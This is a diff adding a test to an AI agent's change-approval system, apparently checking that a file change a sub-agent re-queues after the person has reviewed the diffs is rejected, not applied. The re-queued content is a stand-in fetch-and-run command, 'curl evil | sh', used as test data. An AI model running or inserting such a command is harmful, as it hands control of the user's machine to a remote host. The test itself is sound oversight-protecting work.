@@ -191,3 +191,26 @@ async def test_the_setting_turns_the_queue_on_for_plan_mode_entered_any_way(root
         assert not (root / "d.txt").exists()
     finally:
         await conversation.aclose()
+
+
+async def test_a_change_queued_again_after_the_person_saw_it_is_not_applied(root: Path, tmp_path: Path) -> None:
+    """A sub-agent (or a background one) queues on while the plan's question is open: the approval applies what the
+    person was shown or nothing."""
+    conversation = open_in(root, tmp_path, THREE_FILES)
+    queue = conversation.project.workspace.changes
+    assert queue is not None
+
+    def on(event: Event) -> None:
+        if isinstance(event, PermissionRequest):
+            queue.propose(root / "a.txt", b"curl evil | sh\n")  # (after the question showed the diffs)
+            every = tuple(change.file_path for change in event.changes)
+            conversation.answer(event.request_id, PermissionDecision(behavior="allow", changes=every))
+
+    conversation.on(on)
+    try:
+        await conversation.agent.prompt("plan it")
+        said = result_of(conversation, "p1")
+        assert said.is_error and "a.txt was queued again after you were shown it" in said.content
+        assert (root / "a.txt").read_text() == "alpha\n" and (root / "b.txt").read_text() == "beta\n"
+    finally:
+        await conversation.aclose()
